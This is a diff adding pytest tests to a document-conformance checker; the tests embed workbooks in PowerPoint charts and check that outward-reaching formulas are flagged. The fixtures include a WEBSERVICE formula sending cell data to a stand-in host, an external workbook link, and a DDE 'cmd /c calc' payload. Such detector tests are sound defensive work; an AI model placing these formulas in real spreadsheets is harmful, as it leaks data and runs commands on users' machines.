@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import io
 import zipfile
 from pathlib import Path
 from typing import Any
 
+import openpyxl
 import pytest
 from docx.oxml import parse_xml
 from docx.oxml.ns import nsdecls
+from openpyxl.workbook.defined_name import DefinedName
 
 from coursegen.conform import judged
 from tests.conform.judge import SOCIEUX, all_of, faults
@@ -221,3 +224,56 @@ def test_an_old_document_with_such_a_field_is_not_even_opened(tmp_path: Path, co
     found = judged(path, SOCIEUX).findings
     assert [one.rule for one in found] == ["CNF-00"]
     assert "champs" in found[0].message
+
+
+def _charted(path: Path, change: Any) -> Path:
+    """A deck with a chart, and `change` done to the workbook behind it."""
+    from pptx.chart.data import CategoryChartData
+    from pptx.enum.chart import XL_CHART_TYPE
+    from pptx.util import Cm
+
+    def chart(deck: Any) -> None:
+        data = CategoryChartData()
+        data.categories = ["Nord", "Côte"]
+        data.add_series("Retards", (1, 3))
+        place = (Cm(1), Cm(1), Cm(4), Cm(3))
+        shown = deck.slides[0].shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, *place, data)
+        book = openpyxl.load_workbook(io.BytesIO(shown.chart.part.chart_workbook.xlsx_part.blob))
+        change(book)
+        out = io.BytesIO()
+        book.save(out)
+        shown.chart.part.chart_workbook.xlsx_part._blob = out.getvalue()
+
+    return good_deck(path, chart)
+
+
+@pytest.mark.parametrize(
+    "formula", ['=WEBSERVICE("http://x.example/?"&A1)', "='[salaires.xlsx]Sheet1'!A1", "=cmd|'/c calc'!A1"]
+)
+def test_a_formula_behind_a_chart_that_leads_out_is_told(tmp_path: Path, formula: str) -> None:
+    deck = _charted(tmp_path / "d.pptx", lambda book: book.active.__setitem__("D1", formula))
+    found = faults(deck)["CNF-04"]
+    assert formula[1:9] in found.message and ".xlsx" in found.message
+
+
+def test_a_name_behind_a_chart_that_leads_out_is_told(tmp_path: Path) -> None:
+    def change(book: Any) -> None:
+        book.defined_names["Source"] = DefinedName("Source", attr_text='WEBSERVICE("http://x.example")')
+
+    assert "WEBSERVICE" in faults(_charted(tmp_path / "d.pptx", change))["CNF-04"].message
+
+
+def test_an_ordinary_chart_stays(tmp_path: Path) -> None:
+    deck = _charted(tmp_path / "d.pptx", lambda book: book.active.__setitem__("D1", "=SUM(B2:B3)"))
+    assert "CNF-04" not in faults(deck)
+
+
+def test_a_file_inside_the_workbook_of_a_chart_is_told_and_not_opened(tmp_path: Path) -> None:
+    deck = _charted(tmp_path / "d.pptx", lambda _book: None)
+    (inner,) = (name for name in zipfile.ZipFile(deck).namelist() if "embeddings/" in name)
+    book = tmp_path / "book.xlsx"
+    book.write_bytes(zipfile.ZipFile(deck).read(inner))
+    with zipfile.ZipFile(book, "a") as archive:
+        archive.writestr("xl/embeddings/poupee.xlsx", zipfile.ZipFile(deck).read(inner))
+    rewritten(deck, lambda name, data: book.read_bytes() if name == inner else data)
+    assert "poupee.xlsx" in faults(deck)["CNF-04"].message
